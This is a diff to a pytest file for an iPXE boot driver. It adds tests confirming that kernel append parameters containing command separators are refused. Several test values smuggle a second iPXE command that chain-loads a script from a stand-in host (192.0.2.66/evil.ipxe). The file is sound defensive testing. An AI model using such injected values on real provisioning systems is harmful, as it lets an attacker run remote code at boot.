@@ -70,3 +70,24 @@ def test_the_isolinux_append_line_is_one_line_with_the_quotes(task):
     assert len(appends) == 1 and text.count("\n") == 7
     assert SSHKEY in appends[0]
     assert appends[0].endswith("ipa-note=it's chain http://192.0.2.66/evil.ipxe")
+
+
+@pytest.mark.parametrize("value, word", [
+    ("console=ttyS0 ; chain http://192.0.2.66/evil.ipxe", "';'"),
+    ("a || chain http://192.0.2.66/evil.ipxe", "'||'"),
+    ("a &&\tshell", "'&&'"),
+])
+def test_ipxe_command_separators_are_refused_naming_the_field(task, value, word):
+    """An API user supplies values, not commands: iPXE ran what followed as one."""
+    from hwdrivers.common import exception
+
+    task.node.driver_info["kernel_append_params"] = value
+    with pytest.raises(exception.InvalidParameterValue) as caught:
+        ipxe.IPXEBoot().validate(task)
+    assert "kernel_append_params" in str(caught.value)
+    assert word in str(caught.value)
+
+
+def test_separators_inside_a_word_are_kernel_arguments(task):
+    task.node.driver_info["kernel_append_params"] = "a=b;c x=||y"
+    ipxe.IPXEBoot().validate(task)
